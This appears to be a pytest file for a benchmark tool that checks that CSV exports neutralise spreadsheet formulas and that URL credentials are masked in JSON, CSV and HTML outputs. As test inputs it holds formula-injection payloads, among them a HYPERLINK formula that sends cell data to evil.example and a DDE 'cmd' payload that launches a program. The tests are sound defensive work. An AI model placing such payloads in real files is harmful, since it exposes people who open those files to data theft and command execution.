"""Files safe to open: no CSV the package writes starts a cell with a formula; JSON keeps the values.

The end-to-end case is issue 26's: a model name, an item id and an option beginning with
``=HYPERLINK(`` reached ``scores.csv``, ``pairs.csv``, ``flips.csv``, ``_summary.csv`` and the
report's tables as live formulas, and ``base_url: http://user:SECRET@host/v1`` was stored
verbatim in ``_results.json`` (config and model identity) and in ``index.html``.
"""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import pandas as pd
import pytest
import yaml

from enade_bench.cli.main import main
from enade_bench.masking import mask_url, url_secrets
from enade_bench.results.csv_safe import FORMULA_STARTS, SafeWriter, safe_cell, safe_frame, to_csv_text

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "backends" / "api"))
from api_fakes import DEMO_CSV, FAKE_KEY, FakeServer, Reply, openai_completion, user_text_openai

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    "text", [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tx", "\rx", "=1", "-x"]
)
def test_formula_cells_get_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-0.5", "+3", "-1e-05", "-12", ".5", "-", -0.5, 3, None, "modelo", "a=b", "'=x"]
)
def test_numbers_and_plain_text_stay(value: object) -> None:
    assert safe_cell(value) == value


def test_frame_keeps_numeric_columns_numbers() -> None:
    frame = pd.DataFrame({"model": [EVIL, "m2"], "diff": [-0.5, 0.25], "text_num": ["-0.5", "@x"]})
    frame.index = pd.Index(["=a", "b"])
    safe = safe_frame(frame)
    assert safe["diff"].tolist() == [-0.5, 0.25] and safe["diff"].dtype == float
    assert safe["model"].tolist() == ["'" + EVIL, "m2"]
    assert safe["text_num"].tolist() == ["-0.5", "'@x"]
    assert safe.index.tolist() == ["'=a", "b"] and frame["model"].iloc[0] == EVIL  # the input is untouched
    back = pd.read_csv(io.StringIO(to_csv_text(frame, index=False)))
    assert back["diff"].tolist() == [-0.5, 0.25]
    buffer = io.StringIO()
    writer = SafeWriter(buffer)
    writer.writerow(["=h"])
    writer.writerow([EVIL, -1])
    assert buffer.getvalue().splitlines() == ["'=h", f'"\'{EVIL.replace(chr(34), 2 * chr(34))}",-1']
    categories = safe_frame(pd.DataFrame({"m": pd.Categorical(["=x", "y"])}))["m"].tolist()
    assert categories == ["'=x", "y"]


def test_mask_url() -> None:
    assert mask_url("http://user:SECRET@host/v1") == "http://***@host/v1"
    assert (
        mask_url("https://TOKENabc@host/v1?key=K123&x=1") == "https://***@host/v1?key=***&x=***"
    )  # every value
    assert mask_url("http://127.0.0.1:8000/v1") == "http://127.0.0.1:8000/v1"
    assert url_secrets("http://user:SECRET@host/v1?api_key=abcdef") == ["user:SECRET", "SECRET", "abcdef"]


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _live_formulas(folder: Path) -> dict[str, list[str]]:
    """Every CSV cell under ``folder`` that a spreadsheet would run as a formula."""
    found = {}
    for path in sorted(folder.rglob("*.csv")):
        bad = [c for c in _cells(path) if c.startswith(FORMULA_STARTS) and safe_cell(c) != c]
        if bad:
            found[str(path.relative_to(folder))] = bad
    return found


def test_formulas_neutralised_and_credentials_masked_end_to_end(tmp_path: Path) -> None:
    model_name = '=HYPERLINK("http://evil.example/m","m")'
    rows = pd.read_csv(DEMO_CSV, dtype=str, keep_default_na=False).head(4)
    item_id = '=HYPERLINK("http://evil.example/id","id")'
    rows.loc[0, "id"] = item_id
    rows.loc[0, "A"] = EVIL
    rows.loc[1, "component"] = "@SUM(1+1)"
    rows.loc[2, "stem"] = "-" + EVIL + " " + rows.loc[2, "stem"]
    data = tmp_path / "evil.csv"
    rows.to_csv(data, index=False)

    keys = {stem[:80]: answer for stem, answer in zip(rows["stem"], rows["answer"], strict=True)}

    def handler(req: object) -> Reply:  # the evil model is always right, the plain one always wrong
        body = req.json()  # type: ignore[attr-defined]
        text = user_text_openai(body)
        key = next(answer for stem, answer in keys.items() if stem in text)
        letter = key if body["model"] == model_name else "ABCDE"[("ABCDE".index(key) + 1) % 4]
        return Reply(200, openai_completion(f"Resposta: {letter}"))

    with FakeServer(handler) as server:
        secret_url = server.url + "/v1?api_key=SECRETpw99"  # user-info in a URL is refused
        for name, model in (("evil", model_name), ("plain", "gpt-4o-mini")):
            cfg = {
                "name": name,
                "dataset": {"benchmark": "enade", "path": str(data)},
                "model": {
                    "type": "api",
                    "api": {
                        "provider": "openai_compatible",
                        "model": model,
                        "api_key": FAKE_KEY,
                        "base_url": secret_url,
                    },
                },
                "evaluation": {"method": "api", "seed": 42},
                "output": {"dir": str(tmp_path / "out")},
            }
            path = tmp_path / f"{name}.yaml"
            path.write_text(yaml.safe_dump(cfg, allow_unicode=True), encoding="utf-8")
            assert main(["run", str(path), "--quiet"]) == 0
    assert main(["report", str(tmp_path / "out"), "--out", str(tmp_path / "report")]) == 0

    # CSVs: nothing live anywhere, and the neutralised values are there
    assert _live_formulas(tmp_path / "out") == {} and _live_formulas(tmp_path / "report") == {}
    summary = _cells(tmp_path / "out" / "evil_summary.csv")
    assert "'" + item_id in summary and "'@SUM(1+1)" in summary
    flips = _cells(tmp_path / "report" / "comparison" / "flips.csv")
    assert "'" + item_id in flips
    tables = [c for p in (tmp_path / "report" / "tables").glob("*.csv") for c in _cells(p)]
    assert "'" + model_name in tables and "'@SUM(1+1)" in tables and "'" + item_id in tables

    # compare's own folder from a long CSV (any harness's export): the model name is free text
    long = tmp_path / "long.csv"
    pd.DataFrame(
        {
            "model": [model_name] * 3 + ["b"] * 3,
            "item": [item_id, "q2", "q3"] * 2,
            "correct": [1, 1, 0, 0, 1, 1],
        }
    ).to_csv(long, index=False)
    assert main(["compare", str(long), "--out", str(tmp_path / "cmp")]) == 0
    assert _live_formulas(tmp_path / "cmp") == {}
    for name in ("scores.csv", "pairs.csv", "flips.csv"):
        assert "'" + model_name in _cells(tmp_path / "cmp" / name), name
    assert "'" + item_id in _cells(tmp_path / "cmp" / "flips.csv")

    # JSON keeps every value as it was; the URL's credentials are masked everywhere written
    result = json.loads((tmp_path / "out" / "evil_results.json").read_text(encoding="utf-8"))
    assert result["model"]["name"] == model_name and result["records"][0]["id"] == item_id
    assert result["config"]["model"]["api"]["model"] == model_name
    assert EVIL in json.loads(result["records"][0]["prompt"])[-1]["content"]
    masked = secret_url.replace("SECRETpw99", "***")
    assert result["config"]["model"]["api"]["base_url"] == masked
    assert result["model"]["api"]["base_url"] == masked
    written = [p for p in [*(tmp_path / "out").iterdir(), *(tmp_path / "report").rglob("*")] if p.is_file()]
    leaks = [
        p.name
        for p in written
        if p.suffix in {".json", ".jsonl", ".csv", ".html", ".tex"}
        and "SECRETpw99" in p.read_text(encoding="utf-8", errors="replace")
    ]
    assert leaks == [] and masked in (tmp_path / "report" / "index.html").read_text(encoding="utf-8")
